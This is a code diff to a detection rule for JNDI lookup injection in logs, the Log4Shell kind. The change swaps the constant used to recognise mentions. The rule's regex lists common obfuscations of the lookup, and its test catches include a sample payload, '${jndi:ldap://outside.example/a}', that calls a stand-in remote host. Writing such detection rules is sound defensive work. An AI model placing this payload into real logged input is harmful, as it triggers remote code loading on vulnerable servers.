@@ -2,7 +2,8 @@
  * The expression itself, with its usual disguises. Advisories that quote it are lowered, not blocked.
  */
 import { defineRule } from "@portcullis/engine/static";
-import { MENTION, re } from "../words.ts";
+import { TALK } from "../targets.ts";
+import { re } from "../words.ts";
 
 export default defineRule({
   id: "log-lookup-injection",
@@ -16,7 +17,7 @@ export default defineRule({
     \$\{ ?(?:jndi|\$\{(?:lower|upper|::|env|sys|date)[^}]{0,20}\}[^}]{0,30}?(?:j|n|d|i|\$)[^}]{0,40}|
     j\$\{[^}]{0,20}\})[^}]{0,40}?:? ?(?:\$\{[^}]{0,30}\}){0,4}[a-z]{0,6}:?//[^ }]{3,100}
   `,
-  mention: MENTION,
+  mention: TALK,
   window: 200,
   catches: [
     "«\u0024{jndi:ldap://outside.example/a»}",
